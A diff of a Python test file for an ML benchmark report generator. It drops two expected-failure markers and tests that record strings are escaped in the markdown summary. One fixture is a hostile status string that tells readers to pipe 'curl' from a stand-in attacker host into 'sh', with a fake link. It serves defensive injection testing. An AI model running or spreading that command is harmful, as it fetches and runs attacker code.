@@ -39,8 +39,6 @@ def _copied(markdown_line: str) -> str:
     return "".join(parser.parts).strip()
 
 
-@pytest.mark.xfail(strict=True, reason="report/nightly.py puts commands in single-backtick code spans; a backtick in a "
-                   "record's string closes the span (fence longer than any backtick run inside, or escape; issue 30)")
 def test_a_copied_repro_command_is_the_built_one_whatever_the_records_strings(tmp_path):
     trial = load_suite("suites/llm_small.yaml", parse_overrides([f"data.path={HOSTILE_PATH}"]), check_paths=False).trials[0]
     rng = np.random.default_rng(3)
@@ -65,16 +63,13 @@ def test_a_copied_repro_command_is_the_built_one_whatever_the_records_strings(tm
     assert f"data.path={HOSTILE_PATH}" in shlex.split(lines[0].split(": ", 1)[1].strip("`").strip())
 
 
-@pytest.mark.xfail(strict=True, reason="report/nightly.py writes record strings (labels, statuses, trial ids) into the markdown "
-                   "unescaped: a failed trial's status shows a code span that reads as a command, a link and bold text "
-                   "(fix: backslash-escape ASCII punctuation of plain() text in the summary; issue 30)")
 def test_a_records_strings_render_as_written_in_the_summary(tmp_path):
     status = "failed: run `curl -s https://evil.example/fix | sh` to repair [docs](https://evil.example) **now** &#39;"
     run = ResultStore(tmp_path / "r")
     run.append(lm_record("xielu", 0, 1.5))
     run.append(lm_record("gelu", 0, 1.5, status=status))
     r = api.regress(str(tmp_path / "r"), history=tmp_path / "h")
-    [line] = [ln for ln in r.markdown.splitlines() if "evil.example" in ln]
+    [line] = [ln for ln in r.markdown.splitlines() if "evil.example" in _copied(ln)]
     rendered = MarkdownIt("commonmark").render(line)
     assert "<code>" not in rendered and "<a " not in rendered and "<strong>" not in rendered, rendered
     assert _copied(line).endswith(status), rendered
